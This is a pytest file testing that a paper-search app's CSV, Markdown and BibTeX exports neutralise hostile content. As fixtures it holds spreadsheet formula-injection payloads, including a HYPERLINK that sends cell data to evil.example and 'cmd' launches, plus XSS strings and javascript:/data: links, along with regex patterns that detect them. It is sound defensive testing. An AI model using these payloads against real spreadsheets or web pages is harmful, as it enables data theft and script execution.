"""Exports stay safe when titles and abstracts are hostile (issue 8, item 5):
no spreadsheet formula in the CSV, no live HTML or script links in the
Markdown, BibTeX escaped."""

from __future__ import annotations

import csv
import io
import re

import pytest

from rag.types import (
    ASPECTS,
    Answer,
    Citation,
    CompareCell,
    Comparison,
    Paper,
    Provenance,
    SearchHit,
    SentenceSupport,
    Timings,
)
from ui import export

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HOSTILE_ABSTRACT = (
    "We study parsing. <script>alert(1)</script> See <img src=x onerror=alert(2)> and "
    "<svg onload=alert(3)>. [click me](javascript:alert(4)) and [img](data:text/html;base64,"
    "PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==) and [tabbed](java\tscript:alert(6)) and "
    "[upper]( JAVASCRIPT:alert(7)) but [fine](https://example.org/ok).\n"
    "[ref]: javascript:alert(8)"
)


def hostile_paper(pid: str, title: str, abstract: str = HOSTILE_ABSTRACT) -> Paper:
    return Paper(paper_id=pid, abstract=abstract, title=title, authors=["Eve <b>Evil</b>"],
                 url="javascript:alert(9)", venue="ICML", year=2025, source="icml2025",
                 provenance=[Provenance(f"icml2025/{pid}.txt", 1, 1)])


def hostile_comparison() -> Comparison:
    papers = [hostile_paper(f"p{i}", f) for i, f in enumerate(FORMULAS[:4])]
    cells = {
        p.paper_id: {a: CompareCell(FORMULAS[(i + j) % len(FORMULAS)], HOSTILE_ABSTRACT)
                     for j, a in enumerate(ASPECTS)}
        for i, p in enumerate(papers)
    }
    return Comparison(papers, cells, "=1+1 " + HOSTILE_ABSTRACT,
                      [SentenceSupport("x", [1], 0.5, True)], "fake", Timings())


def hostile_answer() -> Answer:
    p = hostile_paper("p1", "<script>alert('title')</script>[t](javascript:alert(0))")
    hits = [SearchHit(p, 0.9, 1)]
    sents = [SentenceSupport("<img src=x onerror=alert(1)> claim", [], 0.1, False)]
    return Answer("<svg onload=alert(1)>?\n# injected heading", "q", HOSTILE_ABSTRACT, sents,
                  [Citation(1, p, HOSTILE_ABSTRACT, 0.8)], hits, False, None, "m", Timings())


def _assert_markdown_inert(md: str) -> None:
    assert not re.search(r"<\s*[a-z/!]", md, re.IGNORECASE), "raw HTML tag in the export"
    assert not re.search(r"\]\(\s*<?\s*(javascript|data|vbscript)", md, re.IGNORECASE)
    for scheme in ("javascript:", "java\tscript:", "data:text/html", "JAVASCRIPT:"):
        for m in re.finditer(re.escape(scheme), md, re.IGNORECASE):
            before = md[max(0, m.start() - 3): m.start()]
            assert "](" not in before and "]:" not in md[max(0, m.start() - 8): m.start()], (
                f"live link to {scheme!r}: {md[m.start() - 20: m.end() + 10]!r}")
    assert "[fine](https://example.org/ok)" in md  # safe links survive


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises_formulas(value):
    assert export.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "3.5", "", "a=b", "'already", "ok-ish"])
def test_csv_cell_leaves_plain_text(value):
    assert export.csv_cell(value) == value


def test_comparison_csv_has_no_formula_cells():
    text = export.comparison_csv(hostile_comparison())
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    assert len(rows) > len(hostile_comparison().papers)
    for c in cells:
        assert not c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), c
    for f in FORMULAS:  # titles and cells are kept, as text
        assert "'" + f in cells


def test_comparison_markdown_is_inert():
    md = export.comparison_markdown(hostile_comparison())
    _assert_markdown_inert(md)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md  # shown as text, not dropped
    assert "click me (link removed)" in md
    assert "javascript:alert(9)" not in md  # non-http paper URL not exported


def test_conversation_markdown_is_inert():
    md = export.conversation_markdown([hostile_answer()])
    _assert_markdown_inert(md)
    assert "\n# injected heading" not in md  # a question cannot start a heading
    assert "&lt;svg onload=alert(1)&gt;" in md


def test_bibtex_stays_escaped():
    p = hostile_paper("p1", "Evil} @misc{x, title={pwn} & 100% $x$ #1 _y_ ~ ^ \\cmd")
    bib = export.bibtex([p])
    assert len(re.findall(r"^@", bib, re.MULTILINE)) == 1  # no second entry opened
    title = re.search(r"title = \{\{(.*)\}\},", bib).group(1)
    assert r"\}" in title and r"\{" in title and r"\&" in title and r"\%" in title
    assert r"\textbackslash{}cmd" in title
    assert "javascript" not in bib
    assert bib.count("{") - bib.count(r"\{") == bib.count("}") - bib.count(r"\}")
